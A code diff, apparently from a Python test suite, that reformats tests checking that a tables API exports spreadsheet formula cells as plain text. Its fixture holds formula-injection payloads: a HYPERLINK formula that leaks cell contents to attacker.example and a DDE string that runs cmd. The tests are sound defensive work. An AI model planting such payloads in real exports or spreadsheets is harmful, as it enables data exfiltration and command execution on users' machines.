@@ -12,8 +12,7 @@ import pytest
 
 from patchbay.core.testing import create_workspace_with_key
 
-COLUMNS = [{"name": "name", "type": "text"}, {"name": "score", "type": "number"}, {"name": "meta", "type": "json"},
-           {"name": "@note", "type": "text"}]  # fmt: skip
+COLUMNS = [{"name": "name", "type": "text"}, {"name": "score", "type": "number"}, {"name": "meta", "type": "json"}, {"name": "@note", "type": "text"}]
 FORMULAS = {
     "hyperlink": '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")',
     "dde": "+cmd|' /C calc'!A0",
@@ -45,9 +44,13 @@ async def _export(api) -> dict[str, list[str]]:
 
 async def test_formula_cells_are_exported_as_text(api):
     for key, formula in FORMULAS.items():
-        response = await api.post("/connect/v1/tables/leads/rows", json={"external_key": key, "data": {"name": formula, "score": -5, "@note": formula}}, headers=api.ws["headers"])
+        response = await api.post(
+            "/connect/v1/tables/leads/rows", json={"external_key": key, "data": {"name": formula, "score": -5, "@note": formula}}, headers=api.ws["headers"]
+        )
         assert response.status == 201, await response.text()
-    response = await api.post("/connect/v1/tables/leads/rows", json={"external_key": "=evil()", "data": {"name": "Ann", "meta": {"note": "=1"}}}, headers=api.ws["headers"])
+    response = await api.post(
+        "/connect/v1/tables/leads/rows", json={"external_key": "=evil()", "data": {"name": "Ann", "meta": {"note": "=1"}}}, headers=api.ws["headers"]
+    )
     assert response.status == 201, await response.text()
 
     exported = await _export(api)
@@ -62,7 +65,11 @@ async def test_formula_cells_are_exported_as_text(api):
 @pytest.mark.both_databases
 async def test_an_export_imported_back_keeps_every_value(api):
     for key, formula in FORMULAS.items():
-        await api.post("/connect/v1/tables/leads/rows", json={"external_key": f"-{key}", "data": {"name": formula, "score": -5, "@note": formula}}, headers=api.ws["headers"])
+        await api.post(
+            "/connect/v1/tables/leads/rows",
+            json={"external_key": f"-{key}", "data": {"name": formula, "score": -5, "@note": formula}},
+            headers=api.ws["headers"],
+        )
     before = await (await api.get("/connect/v1/tables/leads/rows", params={"limit": "100"}, headers=api.ws["headers"])).json()
     text = await (await api.get("/connect/v1/tables/leads/export", headers=api.ws["headers"])).text()
 
